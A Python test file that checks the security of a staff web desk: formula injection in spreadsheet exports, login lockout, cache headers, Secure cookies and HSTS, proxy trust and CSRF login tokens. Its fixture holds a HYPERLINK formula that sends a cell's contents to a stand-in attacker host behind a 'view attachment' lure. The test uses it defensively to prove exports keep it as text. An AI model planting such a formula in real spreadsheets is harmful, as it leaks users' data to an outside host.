"""The staff desk against the probe of issue 15, through the running service: a formula typed into a form stays
text in the export, a stranger's wrong passwords do not keep the reviewer out, fifty sign-ins at once do not stop
the pages, staff responses are never cached, cookies are Secure and HSTS is sent behind HTTPS, and the login
form's token must be one the server issued.
"""

from __future__ import annotations

import csv
import hashlib
import io
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from sqlmodel import Session, select

from tests.parsers.readers.office_files import soffice_convert
from tests.web.staff_support import (
    ADMIN,
    PASSWORD,
    REVIEWER,
    RunningWeb,
    StaffClient,
    make_settings,
    prepare_database,
    process,
    proposal_mail,
)
from zhengji import staff
from zhengji.clock import Clock, real_now
from zhengji.storage.db import make_engine
from zhengji.storage.models import StaffPresession, Submission
from zhengji.web.staff import auth
from zhengji.web.staff.sessions import csrf_token

FORMULA = '=HYPERLINK("http://evil.example/x?"&B5,"点击查看附件")'
ADDRESS_A = "198.51.100.7"
ADDRESS_B = "203.0.113.9"


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningWeb]:
    settings = make_settings(tmp_path_factory.mktemp("security") / "data")
    engine = prepare_database(settings)
    process(
        engine,
        settings,
        [
            proposal_mail(
                occupation=FORMULA,
                phone="021-6000000",
                sender=("上海某科技有限公司", "formula@example.com"),
                message_id="<formula-1@example.com>",
            )
        ],
    )
    engine.dispose()
    with RunningWeb(settings) as running:
        yield running


@pytest.fixture
def admin(web: RunningWeb) -> Iterator[StaffClient]:
    client = StaffClient(web.base)
    assert client.login(ADMIN).status_code == 303
    yield client
    client.close()


def _new_account(admin: StaffClient, name: str, password: str = "right password") -> None:
    assert admin.post("/staff/admin/users", {"name": name, "password": password}).status_code == 303


class Wall:
    """The machine clock of the running service, moved by the test."""

    def __init__(self) -> None:
        self.moment = real_now()

    def __call__(self) -> datetime:
        return self.moment

    def advance(self, **delta: float) -> None:
        self.moment += timedelta(**delta)


@pytest.fixture
def wall(web: RunningWeb) -> Iterator[Wall]:
    moved = Wall()
    web.use_clock(Clock(web.settings.now, real=moved))
    yield moved
    web.use_clock(Clock(web.settings.now))


# --- xlsx formula injection ------------------------------------------------------------------------------------


def test_a_formula_typed_into_a_form_is_exported_as_text_and_never_evaluated(
    web: RunningWeb, admin: StaffClient
) -> None:
    engine = make_engine(web.settings.resolved_database_url)
    with Session(engine) as session:
        reference = session.exec(select(Submission).where(Submission.sender == "formula@example.com")).one().reference
    engine.dispose()
    assert admin.post(f"/staff/submissions/{reference}/decision", {"action": "accept"}).status_code == 303
    answer = admin.get("/staff/exports/new_occupation.xlsx", params={"window": "2025-06-20"})
    assert answer.status_code == 200
    sheet = load_workbook(io.BytesIO(answer.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert len(cells) == 1, "the occupation's name is exported exactly as the applicant typed it"
    assert cells[0].data_type == "s"  # a string cell: Excel shows it and never evaluates it
    assert cells[0].quotePrefix  # and it stays text when a clerk edits the cell or saves the sheet as CSV
    # LibreOffice recalculates formulas on load: a live HYPERLINK would be exported as its label only.
    converted = soffice_convert({"table.xlsx": answer.content}, "csv:Text - txt - csv (StarCalc):44,34,76")
    rows = list(csv.reader(io.StringIO(converted["table.csv"].decode("utf-8"))))
    assert [row for row in rows if FORMULA in row], rows
    assert answer.headers["cache-control"] == "no-store"


# --- lockout ---------------------------------------------------------------------------------------------------


def test_a_strangers_wrong_passwords_lock_only_their_address_and_tries_during_the_lock_do_not_extend_it(
    web: RunningWeb, admin: StaffClient, wall: Wall
) -> None:
    _new_account(admin, "钱审核")
    stranger = StaffClient(web.base, headers={"X-Forwarded-For": ADDRESS_A})
    for _ in range(web.settings.staff_lockout_failures):
        wrong = stranger.login("钱审核", "wrong password")
        assert wrong.status_code == 401 and "用户名或密码不正确" in wrong.text
    locked = stranger.login("钱审核", "right password")
    assert locked.status_code == 429
    assert "暂时锁定" in locked.text and f"请 {web.settings.staff_lockout_minutes} 分钟后再试" in locked.text
    # The reviewer at her own desk still signs in: the lock is on the stranger's address, not on her account.
    owner = StaffClient(web.base, headers={"X-Forwarded-For": ADDRESS_B})
    assert owner.login("钱审核", "right password").status_code == 303
    owner.close()
    # One try every three minutes does not keep the lock on: tries during a lock are refused and not counted.
    for _ in range(4):
        wall.advance(minutes=3)
        assert stranger.login("钱审核", "wrong password").status_code == 429
    wall.advance(minutes=web.settings.staff_lockout_minutes - 12, seconds=1)
    assert stranger.login("钱审核", "right password").status_code == 303
    stranger.close()


def test_many_failures_from_one_address_still_lock_that_address_for_every_account(web: RunningWeb, wall: Wall) -> None:
    sprayer = StaffClient(web.base, headers={"X-Forwarded-For": "192.0.2.77"})
    for number in range(web.settings.staff_lockout_address_failures):
        assert sprayer.login(f"猜测{number}", "wrong password").status_code == 401
    refused = sprayer.login(REVIEWER, PASSWORD)
    assert refused.status_code == 429 and "本地址登录失败次数过多" in refused.text
    sprayer.close()
    elsewhere = StaffClient(web.base, headers={"X-Forwarded-For": ADDRESS_B})
    assert elsewhere.login(REVIEWER, PASSWORD).status_code == 303
    elsewhere.close()


# --- password hashing off the page threads ---------------------------------------------------------------------


class GatedHasher:
    """argon2's hasher, instrumented: counts the checks running at once and holds them until the gate opens."""

    def __init__(self, real: Any) -> None:
        self.real = real
        self.gate = threading.Event()
        self.changed = threading.Condition()
        self.running = 0
        self.peak = 0
        self.finished = 0
        self.serial = threading.Lock()  # the real work one at a time: the count is of checks begun, not of memory

    def verify(self, stored: str, password: str) -> bool:
        with self.changed:
            self.running += 1
            self.peak = max(self.peak, self.running)
            self.changed.notify_all()
        try:
            assert self.gate.wait(timeout=120), "the test never opened the gate"
            with self.serial:
                return bool(self.real.verify(stored, password))
        finally:
            with self.changed:
                self.running -= 1
                self.finished += 1
                self.changed.notify_all()

    def hash(self, password: str) -> str:
        return str(self.real.hash(password))

    def check_needs_rehash(self, stored: str) -> bool:
        return bool(self.real.check_needs_rehash(stored))


def test_fifty_sign_ins_at_once_hash_in_a_small_pool_while_pages_answer(
    web: RunningWeb, admin: StaffClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    hasher = GatedHasher(staff._HASHER)
    monkeypatch.setattr(staff, "_HASHER", hasher)
    arrived = threading.Semaphore(0)
    look_up: Callable[..., Any] = auth.find_staff

    def counted(*args: Any) -> Any:
        arrived.release()
        return look_up(*args)

    monkeypatch.setattr(auth, "find_staff", counted)
    clients = [StaffClient(web.base) for _ in range(50)]
    forms = []
    for client in clients:
        page = client.get("/staff/login")
        forms.append(page.text.split('name="csrf_token" value="', 1)[1].split('"', 1)[0])

    def sign_in(index: int) -> int:
        form = {"username": REVIEWER, "password": PASSWORD, "csrf_token": forms[index]}
        return clients[index].http.post("/staff/login", data=form).status_code

    try:
        with ThreadPoolExecutor(max_workers=50) as senders:
            answers = [senders.submit(sign_in, index) for index in range(50)]
            # Every sign-in reaches its account while the first hashes are held: none waits for a free thread.
            for count in range(50):
                assert arrived.acquire(timeout=60), f"only {count} of 50 sign-ins were taken up while hashes ran"
            with hasher.changed:
                assert hasher.changed.wait_for(lambda: hasher.running >= staff.HASHING_THREADS, timeout=60)
            queue = admin.get("/staff/queue")
            assert queue.status_code == 200 and "data-reference" in queue.text
            assert hasher.finished == 0  # the page was answered while every sign-in was still waiting for its hash
            hasher.gate.set()
            assert [answer.result() for answer in answers] == [303] * 50
    finally:
        hasher.gate.set()
        for client in clients:
            client.close()
    assert hasher.peak == staff.HASHING_THREADS


# --- headers ---------------------------------------------------------------------------------------------------


def test_staff_pages_the_api_and_the_login_form_are_never_cached(web: RunningWeb, admin: StaffClient) -> None:
    for path in ("/staff/queue", "/staff/api/submissions", "/staff/dashboard", "/staff/exports", "/staff/nowhere"):
        assert admin.get(path).headers["cache-control"] == "no-store", path
    anonymous = StaffClient(web.base)
    assert anonymous.get("/staff/login").headers["cache-control"] == "no-store"
    assert "no-store" not in anonymous.get("/").headers.get("cache-control", "")  # the public page may be cached
    anonymous.close()


def _set_cookies(answer: httpx.Response) -> dict[str, str]:
    """Each Set-Cookie of a response by cookie name."""
    return {line.split("=", 1)[0]: line for line in answer.headers.get_list("set-cookie")}


def _sign_in_by_hand(base: str, headers: dict[str, str] | None = None) -> tuple[httpx.Response, httpx.Response]:
    """The login form and its POST, carrying the form's cookie by hand (a Secure cookie is not sent over HTTP)."""
    with httpx.Client(base_url=base, follow_redirects=False, timeout=30, headers=headers) as http:
        form = http.get("/staff/login")
        token = form.text.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
        cookie = form.headers["set-cookie"].split(";", 1)[0]
        posted = http.post(
            "/staff/login",
            data={"username": ADMIN, "password": PASSWORD, "csrf_token": token},
            headers={"Cookie": cookie},
        )
    return form, posted


def _running(tmp_path: Path, **overrides: Any) -> RunningWeb:
    settings = make_settings(tmp_path / "data", **overrides)
    prepare_database(settings).dispose()
    return RunningWeb(settings)


def test_behind_an_https_public_address_cookies_are_secure_and_hsts_is_sent(tmp_path: Path) -> None:
    with _running(tmp_path, web_public_url="https://zhengji.example.gov.cn") as running:
        form, posted = _sign_in_by_hand(running.base)
        assert posted.status_code == 303
        assert "Secure" in _set_cookies(form)["zhengji_login"]
        assert "Secure" in _set_cookies(posted)["zhengji_staff"]
        for answer in (form, posted, httpx.get(running.base + "/")):
            assert answer.headers["strict-transport-security"] == "max-age=31536000"


def test_x_forwarded_proto_is_believed_only_from_a_trusted_proxy(web: RunningWeb, tmp_path: Path) -> None:
    forwarded = {"X-Forwarded-Proto": "https"}
    _, plain = _sign_in_by_hand(web.base)
    assert "Secure" not in _set_cookies(plain)["zhengji_staff"]
    assert "strict-transport-security" not in plain.headers
    _, proxied = _sign_in_by_hand(web.base, forwarded)  # the tests speak from loopback, the default trusted proxy
    assert proxied.status_code == 303 and "Secure" in _set_cookies(proxied)["zhengji_staff"]
    with _running(tmp_path, web_trusted_proxies="192.0.2.1") as untrusting:
        _, spoofed = _sign_in_by_hand(untrusting.base, forwarded)
    assert spoofed.status_code == 303 and "Secure" not in _set_cookies(spoofed)["zhengji_staff"]


# --- the login form's token ------------------------------------------------------------------------------------


def test_a_login_token_made_up_with_a_matching_cookie_is_refused(web: RunningWeb) -> None:
    made_up = "attacker-chosen-value-0123456789"
    for token in (made_up, csrf_token(made_up)):
        forger = StaffClient(web.base)
        forger.http.cookies.set("zhengji_login", made_up, path="/staff/login")
        answer = forger.http.post("/staff/login", data={"username": ADMIN, "password": PASSWORD, "csrf_token": token})
        forger.close()
        assert answer.status_code == 403, token
        assert "登录页面已过期" in answer.text
        assert "zhengji_staff" not in answer.headers.get("set-cookie", "")


def test_the_login_token_is_the_one_issued_for_this_browser_and_is_spent_by_signing_in(web: RunningWeb) -> None:
    first, second = StaffClient(web.base), StaffClient(web.base)
    first_token = first.get("/staff/login").text.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
    second.get("/staff/login")
    crossed = second.http.post(
        "/staff/login", data={"username": ADMIN, "password": PASSWORD, "csrf_token": first_token}
    )
    assert crossed.status_code == 403  # another browser's token does not go with this browser's pre-session
    cookie = first.http.cookies.get("zhengji_login")
    assert cookie
    engine = make_engine(web.settings.resolved_database_url)
    with Session(engine) as session:
        stored = {row.token_hash for row in session.exec(select(StaffPresession)).all()}
    assert hashlib.sha256(cookie.encode()).hexdigest() in stored and cookie not in stored
    form = {"username": ADMIN, "password": PASSWORD, "csrf_token": first_token}
    assert first.http.post("/staff/login", data=form).status_code == 303
    replay = StaffClient(web.base)
    replay.http.cookies.set("zhengji_login", cookie, path="/staff/login")
    assert replay.http.post("/staff/login", data=form).status_code == 403  # spent once it signed someone in
    replay.close()
    with Session(engine) as session:
        stored = {row.token_hash for row in session.exec(select(StaffPresession)).all()}
    engine.dispose()
    assert hashlib.sha256(cookie.encode()).hexdigest() not in stored
    first.close()
    second.close()


def test_a_proxy_or_public_address_that_is_not_one_is_named_at_start_up(monkeypatch: pytest.MonkeyPatch) -> None:
    from zhengji.settings import SettingsError, load_settings

    monkeypatch.setenv("ZHENGJI_WEB_TRUSTED_PROXIES", "10.0.0.5,nginx")
    with pytest.raises(SettingsError) as raised:
        load_settings()
    assert str(raised.value) == (
        "设置 ZHENGJI_WEB_TRUSTED_PROXIES 有误：“nginx”不是 IP 地址或网段（例如 10.0.0.5 或 10.0.0.0/24）"
    )
    monkeypatch.setenv("ZHENGJI_WEB_TRUSTED_PROXIES", "")
    monkeypatch.setenv("ZHENGJI_WEB_PUBLIC_URL", "zhengji.example.gov.cn")
    with pytest.raises(SettingsError) as raised:
        load_settings()
    assert str(raised.value).startswith("设置 ZHENGJI_WEB_PUBLIC_URL 有误：应为 http(s):// 开头的网址")
    monkeypatch.setenv("ZHENGJI_WEB_PUBLIC_URL", "https://zhengji.example.gov.cn/")
    settings = load_settings()
    assert settings.behind_https and settings.web_trusted_proxies == ["127.0.0.1", "::1"]
